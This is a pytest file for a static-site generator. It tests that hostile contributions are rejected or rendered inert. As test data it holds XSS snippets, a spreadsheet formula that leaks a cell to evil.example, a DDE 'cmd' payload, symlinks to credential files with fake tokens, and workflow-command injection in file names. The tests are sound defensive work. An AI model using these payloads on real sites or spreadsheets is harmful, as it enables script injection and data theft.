"""The bad-input catalogue, hostile part: what a pull request changing only seeds/ could try.

Each case either fails cleanly (exit 1, a message naming file, line and field, a count at
the end, no traceback, nothing written) or builds with the text inert. Every build runs
in a subprocess bounded in time and memory (support.run_build), so a case that hung or
crashed the build fails here instead.
"""

from __future__ import annotations

import json
import os
import re
import sys

import markdown
import pytest

from support import ROOT, run_build, snapshot
from test_bad_input import ACTOR, SOURCE, replace, write

from record_builder.problems import Problem
from record_site import site_check as security

URL = "url: https://news.example.org/2025/10/01/example"
NAME = "name: Alicia Éxample"


def _symlink(path: str, target_of):
    def edit(root):
        (root / path).symlink_to(target_of(root))
    return edit


def _outside_file(name: str, content: str):
    def target(root):
        file = root.parent / name
        file.write_text(content, encoding="utf-8")
        return file
    return target


def _git_config(root):
    (root / ".git").mkdir(exist_ok=True)
    (root / ".git" / "config").write_text("[remote \"origin\"]\n\turl = https://token-abc123@example.org/x\n")
    return root / ".git" / "config"


def _fifo(path: str):
    def edit(root):
        os.mkfifo(root / path)
    return edit


FAILS = {
    # 1. addresses
    "url: user name before @": (
        replace(URL, "url: https://news.un.org@evil.example/2025/10/01"),
        f"{SOURCE}:7:6: url: the address has a user name before '@' (news.un.org@), which makes it read as another"
        " site's address; the site is 'evil.example': give its plain address; got the text"
        " 'https://news.un.org@evil.example/2025...'"),
    "url: data: address": (
        replace(URL, "url: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
        f"{SOURCE}:7:6: url: expected an address starting with https://, or null when none is known;"
        " got the text 'data:text/html;base64,PHNjcmlwdD5hbGV...'"),
    "url: quote breaking out of the attribute": (
        replace(URL, "url: https://news.example.org/\"onmouseover=\"alert(1)"),
        f"{SOURCE}:7:6: url: the address contains '\"', which no address needs (percent-encode it if the address"
        " really has one); got the text 'https://news.example.org/\"onmouseover...'"),
    "url: host mixing scripts": (
        replace(URL, "url: https://news.exаmple.org/x"),  # a Cyrillic а
        f"{SOURCE}:7:6: url: the host name 'news.exаmple.org' mixes Cyrillic and Latin letters in one part, which"
        " can imitate another site's name; got the text 'https://news.exаmple.org/x'"),
    "url: no domain": (
        replace(URL, "url: http://localhost/admin"),
        f"{SOURCE}:7:6: url: the host name 'localhost' is not a domain name such as news.example.org (letters,"
        " digits and hyphens, with at least one dot; not an IP address); got the text 'http://localhost/admin'"),
    # 2. links and special files in seeds/
    "symlink to a file outside the repository": (
        _symlink("seeds/actors/leak.yaml", _outside_file("secret.yaml", "id: leak\nname: SECRET-CONTENT\n")),
        "seeds/actors/leak.yaml:1:1: a symbolic link in seeds/, which takes only regular files: put the file itself"
        " here (a link or special file is never opened)"),
    "symlink to a credentials file": (
        _symlink("seeds/sources/creds.yaml", _outside_file(".git-credentials", "https://user:ghp_SECRET@github.com\n")),
        "seeds/sources/creds.yaml:1:1: a symbolic link in seeds/, which takes only regular files: put the file itself"
        " here (a link or special file is never opened)"),
    "symlink to .git/config": (
        _symlink("seeds/legal/config.yaml", _git_config),
        "seeds/legal/config.yaml:1:1: a symbolic link in seeds/, which takes only regular files: put the file itself"
        " here (a link or special file is never opened)"),
    "symlink to a folder": (
        _symlink("seeds/actors/more", lambda root: root.parent),
        "seeds/actors/more:1:1: a symbolic link in seeds/, which takes only regular files: put the file itself"
        " here (a link or special file is never opened)"),
    "seeds itself a symlink": (
        lambda root: ((root / "seeds").rename(root.parent / "elsewhere"), (root / "seeds").symlink_to(root.parent / "elsewhere")),
        "seeds:1:1: the seeds folder is a symbolic link or not a folder"),
    "named pipe": (
        _fifo("seeds/actors/pipe.yaml"),
        "seeds/actors/pipe.yaml:1:1: a named pipe (FIFO) in seeds/, which takes only regular files: put the file"
        " itself here (a link or special file is never opened)"),
    # 3. file names
    "newline and workflow command in a file name": (
        write("seeds/actors/x\n::error file=README.md,line=1::owned.yaml", "id: x\n"),
        "seeds/actors/x\\n::error file=README.md,line=1::owned.yaml:1:1: the name 'x\\n::error"
        " file=README.md,line=1::owned.yaml' has a character outside the safe set ('\\n'): file and folder names in"
        " seeds/ may use only letters A-Z and a-z, digits 0-9, '-', '_' and '.' (not first), at most 100 characters"),
    "direction control in a file name": (
        write("seeds/actors/evil\u202elmay.yaml", "id: x\n"),
        "seeds/actors/evil\\u202elmay.yaml:1:1: the name 'evil\\u202elmay.yaml' has a character outside the safe set"
        " ('\\u202e'): file and folder names in seeds/ may use only letters A-Z and a-z, digits 0-9, '-', '_' and"
        " '.' (not first), at most 100 characters"),
    # 4. reserved ids
    "actor id index": (
        write("seeds/actors/index.yaml", "id: index\nname: Index\nkind: person\n"),
        "seeds/actors/index.yaml:1:5: id: the id 'index' is reserved: the list page of the folder is index.md;"
        " choose another id"),
    "source id index": (
        lambda root: (root / "seeds/sources/index.yaml").write_text(
            (root / SOURCE).read_text(encoding="utf-8").replace("id: example-news-2025-10-01", "id: index"),
            encoding="utf-8"),
        "seeds/sources/index.yaml:1:5: id: the id 'index' is reserved: the list page of the folder is index.md;"
        " choose another id"),
    "legal id nul": (
        write("seeds/legal/nul.yaml", "id: nul\ntitle: T\nquestion: Q?\n"),
        "seeds/legal/nul.yaml:1:5: id: the id 'nul' is reserved: Windows cannot store a file named nul;"
        " choose another id"),
    # 5. numbers and dates
    "figure .nan": (
        replace("value: 3", "value: .nan"),
        f"{SOURCE}:39:12: figures[0].value: expected a number, got .nan (not a number); write the figure the source gives"),
    "figure .inf": (
        replace("value: 3", "value: .inf"),
        f"{SOURCE}:39:12: figures[0].value: expected a number, got .inf (infinity); write the figure the source gives"),
    "integer of 400 digits": (
        replace("value: 3", "value: " + "9" * 400),
        f"{SOURCE}:39:12: figures[0].value: expected a number of at most 1,000,000,000,000,000, got a number of"
        " 400 characters"),
    "integer of 5,000 digits": (
        replace("value: 3", "value: " + "7" * 5000),
        f"{SOURCE}:39:12: figures[0].value: expected a number of at most 1,000,000,000,000,000, got a number of"
        " 5,000 characters"),
    "float too large": (
        replace("value: 3", "value: 1.0e+300"),
        f"{SOURCE}:39:12: figures[0].value: expected a number of at most 1,000,000,000,000,000, got 1e+300"),
    "year 0000": (
        replace("as_of: 2025-09-30", "as_of: 0000-01-01"),
        f"{SOURCE}:41:12: figures[0].as_of: there is no year 0000 (the calendar's years run from 0001 to 9999);"
        " got '0000-01-01'"),
    # 6. nesting
    "50,000 levels of [": (
        write(ACTOR, "[" * 50_000),
        f"{ACTOR}:1:65: the YAML nests lists and mappings more than 64 levels deep (a summary needs about six);"
        " flatten it"),
    "50,000 levels of block lists": (
        write(ACTOR, "- " * 50_000 + "x\n"),
        f"{ACTOR}:1:129: the YAML nests lists and mappings more than 64 levels deep (a summary needs about six);"
        " flatten it"),
    # 7. invisible direction controls
    "right-to-left override in a name": (
        replace(NAME, "name: Alicia \u202eelpmaxE", ACTOR),
        f"{ACTOR}:3:7: name: the text contains the invisible direction control U+202E (RIGHT-TO-LEFT OVERRIDE),"
        " which can reverse how the text around it reads; remove it"),
    "isolate in a figure label": (
        replace("label: Examples counted", "label: Examples \u2067counted"),
        f"{SOURCE}:38:12: figures[0].label: the text contains the invisible direction control U+2067"
        " (RIGHT-TO-LEFT ISOLATE), which can reverse how the text around it reads; remove it"),
}


@pytest.mark.parametrize("name", FAILS)
def test_hostile_input_fails_cleanly(corpus, name):
    edit, expected = FAILS[name]
    edit(corpus)
    before = snapshot(corpus / "seeds") if "pipe" not in name and "seeds itself" not in name else None
    result = run_build(corpus, "--github")
    assert result.code == 1, result.err
    assert expected in result.lines, "\n".join(result.lines)
    assert result.lines[-1].endswith("; nothing was written.")
    assert "Traceback" not in result.err and not (corpus / "docs").exists()
    assert "SECRET" not in result.err + result.out and "token-abc123" not in result.err + result.out
    assert ".git" not in result.err
    # GitHub Actions obeys any output line starting with '::': ours are one per problem, all ::error.
    commands = [line for line in result.out.splitlines() if line.startswith("::")]
    assert commands and all(line.startswith("::error file=seeds") for line in commands), commands
    if before is not None:
        assert snapshot(corpus / "seeds") == before


def _html(corpus, page: str) -> str:
    """A generated page as MkDocs' Markdown makes it HTML (the site's extensions)."""
    text = (corpus / "docs" / page).read_text(encoding="utf-8").split("---\n", 2)[2]
    return markdown.markdown(text, extensions=["attr_list", "tables", "toc"])


def _inert(html: str) -> None:
    problems = security._Reader(ROOT, ROOT).read_fragment(html).problems
    assert not problems, problems


SOURCE_PAGE = "sources/example-news-2025-10-01.md"

INERT = {
    "Markdown image with onerror in the address": (
        replace(URL, "url: https://x.example/![a](x){onerror=alert(document.domain)}"),
        SOURCE_PAGE,
        '<a href="https://x.example/!%5Ba%5D(x)%7Bonerror=alert(document.domain)%7D" rel="noopener noreferrer">'
        "https://x.example/![a](x){onerror=alert(document.domain)}</a>"),
    "Markdown javascript: link in the address": (
        replace(URL, "url: https://x.example/[a](javascript:alert(1))"),
        SOURCE_PAGE,
        '<a href="https://x.example/%5Ba%5D(javascript:alert(1))" rel="noopener noreferrer">'
        "https://x.example/[a](javascript:alert(1))</a>"),
    "table cell break and attribute list in the address": (
        replace(URL, "url: https://x.example/a|b{:onclick=alert(1)}"),
        SOURCE_PAGE, None),
    "internationalised host": (
        replace(URL, "url: https://bücher.example/straße"),
        SOURCE_PAGE,
        '<a href="https://xn--bcher-kva.example/stra%C3%9Fe" rel="noopener noreferrer">https://bücher.example/straße</a>'),
}


@pytest.mark.parametrize("name", INERT)
def test_hostile_address_builds_inert(corpus, name):
    edit, page, expected = INERT[name]
    edit(corpus)
    result = run_build(corpus)
    assert result.code == 0, result.err
    html = _html(corpus, page)
    _inert(html)
    assert "<img" not in html and "onerror=" not in html.replace("onerror=alert", "")
    assert not re.search(r'href="(?!https://)', html.split("Address", 1)[1].split("</tr>", 1)[0])
    if expected:
        assert expected in html, html[html.index("Address"):][:400]


def test_spreadsheet_formulas_are_neutralised(corpus):
    replace("label: Examples counted", 'label: =HYPERLINK("https://evil.example/?leak="&A1,"Click")')(corpus)
    replace("title: The example event", "title: '@SUM(1+1)*cmd|'' /C calc''!A0'")(corpus)
    result = run_build(corpus)
    assert result.code == 0, result.err
    figures = (corpus / "docs/exports/figures.csv").read_text(encoding="utf-8")
    timeline = (corpus / "docs/exports/timeline.csv").read_text(encoding="utf-8")
    assert '"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"' in figures
    assert "\"'@SUM(1+1)*cmd|' /C calc'!A0\"" in timeline
    for text in (figures, timeline):  # no cell begins with a formula character
        for line in text.splitlines():
            assert not re.search(r'(^|,)"[=+\-@\t\r]', line), line
    assert "OWASP" in (corpus / "docs/exports.md").read_text(encoding="utf-8")


def test_year_9999_builds_a_valid_calendar(corpus):
    replace("published: 2025-10-01", "published: 9999-12-31")(corpus)
    replace("value: 2025-09-24/2025-09-30", "value: 2025-09-24/9999-12-31")(corpus)
    result = run_build(corpus)
    assert result.code == 0, result.err
    ics = (corpus / "docs/exports/events.ics").read_bytes().decode("utf-8")
    assert "DTSTART;VALUE=DATE:20250924\r\nDURATION:P2912542D\r\n" in ics


def test_a_flood_of_one_problem_is_counted_not_printed(corpus):
    replace("actors: [alice-example]", "actors: [" + ",".join(f"n{i}" for i in range(30_000)) + "]")(corpus)
    result = run_build(corpus)
    assert result.code == 1
    assert len(result.lines) < 100, len(result.lines)
    assert any(line.startswith("... and 29,975 more problems of the kind first shown as: ") for line in result.lines)
    assert result.lines[-1] == "30000 problems found in 1 file; nothing was written."  # one per unknown id


def test_annotations_escape_as_github_documents():
    problem = Problem("seeds/a,b:c\r\n::stop-commands::x%.yaml", 3, 4, "f", "100% bad\n::error::forged")
    annotation = problem.github_annotation()
    assert annotation == ("::error file=seeds/a%2Cb%3Ac%0D%0A%3A%3Astop-commands%3A%3Ax%25.yaml,line=3,col=4"
                          "::f: 100%25 bad%0A::error::forged")
    assert "\n" not in problem.format() and "\r" not in problem.format()


def test_reserved_ids_cover_every_generated_page_beside_records(corpus):
    """Whatever the generator writes into a folder of record pages, other than the records' own
    pages and their continuation pages ('--'), is reserved as an id."""
    from record_builder.locations import reserved_id

    assert run_build(corpus).code == 0
    for folder, kind in (("actors", "actors"), ("legal", "legal"), ("sources", "sources")):
        ids = {p.stem for p in (corpus / "seeds" / kind).glob("*.yaml")}
        for page in (corpus / "docs" / folder).glob("*.md"):
            if page.stem not in ids and "--" not in page.stem:
                assert reserved_id(page.stem), page


def test_site_check_names_the_page_with_a_handler(tmp_path):
    """The built-site check holds even when the validator misses something."""
    site = tmp_path / "site"
    (site / "charts").mkdir(parents=True)
    (site / "page.html").write_text(
        '<html><head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="script-src \'self\'">'
        '</head><body><article class="md-content__inner"><p>x<img src="a.png" onerror="alert(1)">'
        '<a href=" java\tscript:alert(1)">y</a><iframe src="https://evil.example"></iframe></p></article>'
        "<script>alert(2)</script></body></html>", encoding="utf-8")
    (site / "charts/c.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script>'
                                       '<a href="javascript:x"><text onclick="x">t</text></a></svg>', encoding="utf-8")
    problems = security.check_site(site)
    assert "page.html: line 1: the event-handler attribute onerror= on <img>" in problems
    assert "page.html: line 1: a javascript: URL in href= on <a>" in problems
    assert "page.html: line 1: the element <iframe>, which no page of the site has" in problems
    assert "page.html: an inline script the policy does not list: 'alert(2)'" in problems
    assert "charts/c.svg: line 1: the element <script>, which the charts never have" in problems
    assert "charts/c.svg: line 1: the event-handler attribute onclick= on <text>" in problems


def test_mkdocs_build_fails_naming_the_page_with_a_handler(tmp_path):
    """The plugin in a real build: a page the validator would never let through, written by hand."""
    import subprocess

    (tmp_path / "docs").mkdir()
    (tmp_path / "docs/index.md").write_text("# Home\n\nFine.\n", encoding="utf-8")
    (tmp_path / "docs/bad.md").write_text('# Bad\n\n<img src="x.png" onerror="alert(1)">\n', encoding="utf-8")
    (tmp_path / "mkdocs.yml").write_text(
        "site_name: t\ntheme:\n  name: material\n  font: false\nplugins:\n  - search\n  - record_site\n",
        encoding="utf-8")
    done = subprocess.run([sys.executable, "-m", "mkdocs", "build", "--strict"], cwd=tmp_path, capture_output=True,
                          text=True, timeout=120, env={**os.environ, "NO_MKDOCS_2_WARNING": "1"})
    assert done.returncode != 0
    assert re.search(r"bad/index.html: line \d+: the event-handler attribute onerror= on <img>", done.stderr), done.stderr
    assert "Traceback" not in done.stderr


PAGE = ('<html><head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="script-src \'self\'">'
        '</head><body><header><a href="index.html">Home</a></header><article class="md-content__inner md-typeset">'
        '<h1 id="t">Title</h1><p>Text with <a href="https://news.example.org/a?b=1&amp;c=2">a link</a>.</p>'
        "{}</article></body></html>")
SNIPPETS = [
    '<img src="x.png" onerror="alert(1)">', '<img src="x.png"onerror="alert(1)">', "<img/ONERROR=alert(1) src=x>",
    '<a href="javascript:alert(1)">x</a>', '<a href=" JaVa\tScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>', '<a href="java&Tab;script&colon;alert(1)">x</a>',
    '<a href="data:text/html,x">x</a>', '<a href="vbscript:x">x</a>', '<img src="https://tracker.example/p.gif">',
    '<img srcset="//tracker.example/p.gif 1x">', '<iframe src="x.html"></iframe>', '<object data="x.swf"></object>',
    '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>', '<form action="https://evil.example"></form>',
    '<details open ontoggle="alert(1)">x</details>', '<p style="color:red">x</p>', '<p title="a>b" onclick="x()">x</p>',
    '<p title="a>b" style="x">x</p>', "<p title='a\"b' style=x>x</p>", '<p class=x"y style="z">x</p>',
    '<p class="x"style="y">x</p>', '<p/style="x">x</p>',
    '<script>alert(1)</script>', '<script src="https://evil.example/x.js"></script>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">', '<base href="https://evil.example/">',
]


@pytest.mark.parametrize("snippet", SNIPPETS)
def test_the_site_check_refuses_every_snippet(tmp_path, snippet):
    """site_check.py reads every page in full, as the browser parses it: each snippet is refused,
    the same page without it passes."""
    assert security.check_html(tmp_path, tmp_path / "index.html", PAGE.format(snippet), written=False)
    assert not security.check_html(tmp_path, tmp_path / "index.html", PAGE.format(""), written=False)


def test_an_equals_sign_in_text_is_no_attribute(tmp_path):
    """The citation's BibTeX (author = {...}) is on every page: text between tags has no attributes."""
    page = PAGE.format("<pre><code>@misc{x,\n  author = {A},\n  url = {https://x.example/}\n}</code></pre><p>a = b, c=d</p>")
    assert not security.check_html(tmp_path, tmp_path / "index.html", page, written=False)


# ---- the built-site check: every page, every index, every anchor --------------------------------

def _page(body: str, head: str = "") -> str:
    return ('<html lang="en"><head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" '
            f"content=\"script-src 'self'\">{head}<title>T</title></head><body>"
            f'<article class="md-content__inner md-typeset">{body}</article></body></html>')


def test_an_attribute_a_stray_quote_adds_to_the_head_fails_the_check(tmp_path):
    """What a description typed with straight quotes did before it was escaped: the words after
    the quote became attributes of <meta>, and the '>' ended the head."""
    head = '<meta name="description" content="He called them "unacceptable" & said 5 < 6 and 7 > 3.">'
    problems = security.check_html(tmp_path, tmp_path / "index.html", _page("<p>x</p>", head), written=False)
    assert 'line 1: the attribute unacceptable"= on <meta>, which the theme\'s templates never produce' in problems
    assert any("outside the page's head" in p for p in problems), problems
    escaped = '<meta name="description" content="He called them &#34;unacceptable&#34; &amp; said 5 &lt; 6 and 7 &gt; 3.">'
    assert not security.check_html(tmp_path, tmp_path / "index.html", _page("<p>x</p>", escaped), written=False)


def test_every_served_search_index_is_read(tmp_path):
    site = tmp_path / "site"
    for folder in ("search", "es/search"):
        (site / folder).mkdir(parents=True)
    entry = {"location": "page/#x", "title": "T", "text": '<p>ok</p><img src="x" onerror="alert(1)">'}
    (site / "search/search_index.full.json").write_text(json.dumps({"docs": [entry]}), encoding="utf-8")
    (site / "es/search/search_index.full.js").write_text("var __index = " + json.dumps({"docs": [entry]}) + ";",
                                                         encoding="utf-8")
    problems = security.check_site(site)
    for index in ("search/search_index.full.json", "es/search/search_index.full.js"):
        assert f"{index}: entry 'page/#x', text: the event-handler attribute onerror= on <img>" in problems, problems


def test_an_in_site_anchor_no_element_carries_fails_the_check(tmp_path):
    site = tmp_path / "site"
    (site / "timeline").mkdir(parents=True)
    (site / "es/actors/a").mkdir(parents=True)
    (site / "timeline/index.html").write_text(_page('<h1 id="t">T</h1><details id="ev-1">x</details>'), encoding="utf-8")
    (site / "index.html").write_text(_page('<a href="timeline/#ev-1">ok</a> <a href="timeline/#ev-2">gone</a> '
                                           '<a href="#t">no such id here</a> <a href="https://x.example/#y">away</a>'),
                                     encoding="utf-8")
    (site / "es/actors/a/index.html").write_text(_page('<a href="../../../timeline/#ev%2D2">gone</a>'), encoding="utf-8")
    problems = [p for p in security.check_site(site) if "has the id" in p]
    assert problems == [
        "es/actors/a/index.html: a link to '../../../timeline/#ev%2D2', but no element of timeline/index.html has the id 'ev-2'",
        "index.html: a link to 'timeline/#ev-2', but no element of timeline/index.html has the id 'ev-2'",
        "index.html: a link to '#t', but no element of index.html has the id 't'"]


def test_a_problem_names_the_yaml_line_its_text_came_from(tmp_path):
    (tmp_path / "seeds/sources").mkdir(parents=True)
    (tmp_path / "seeds/sources/s.yaml").write_text("id: s\nsummary: >-\n  Fine, then x onpointerover=y.\n",
                                                   encoding="utf-8")
    shown = security._with_sources(["a/index.html: line 9: the event-handler attribute onpointerover= on <p>"],
                                   tmp_path)
    assert shown == ["a/index.html: line 9: the event-handler attribute onpointerover= on <p> (from seeds/sources/s.yaml:3)"]


def test_an_interface_translation_keeps_its_fields_and_no_stray_percent(tmp_path):
    from record_builder.catalogs import interface_catalog_problems

    (tmp_path / "es").mkdir()
    (tmp_path / "es/ui.po").write_text(
        'msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n\n'
        'msgid "on “%(title)s”"\nmsgstr "sobre «%(titulo)s»"\n\n'
        'msgid "Key facts"\nmsgstr "Datos {% if x %}clave"\n\n'
        'msgid "Sources"\nmsgstr "Fuentes <b>"\n\n'
        'msgid "Events"\nmsgstr "Hechos al 100%%"\n', encoding="utf-8")
    problems = [p.format() for p in interface_catalog_problems("es", tmp_path)]
    assert problems == [
        f"{tmp_path.name}/es/ui.po:5:1: msgstr: the translation of 'on “%(title)s”': the translation's fields"
        " (%(titulo)s) are not the English text's (%(title)s): keep each %(name)s exactly as the msgid writes it",
        f"{tmp_path.name}/es/ui.po:8:1: msgstr: the translation of 'Key facts': a '%' that is no %(name)s field:"
        " write '%%' for a percent sign",
        f"{tmp_path.name}/es/ui.po:11:1: msgstr: the translation of 'Sources': HTML, character entities and script"
        " are not allowed in text (found '<b'); write plain text"]


def test_a_search_entry_cannot_close_its_way_out_of_the_check(tmp_path):
    """An entry is read on its own, with no wrapper its text could close, at any depth."""
    problems = security._Reader(tmp_path, tmp_path).read_fragment(
        '<p>ok</p></article></body><script>alert(1)</script>' + "<span>" * 5000 + '<b onclick="x">y</b>').problems
    assert "line 1: the element <script> in the page's content, which the templates never produce" in problems
    assert "line 1: the event-handler attribute onclick= on <b>" in problems
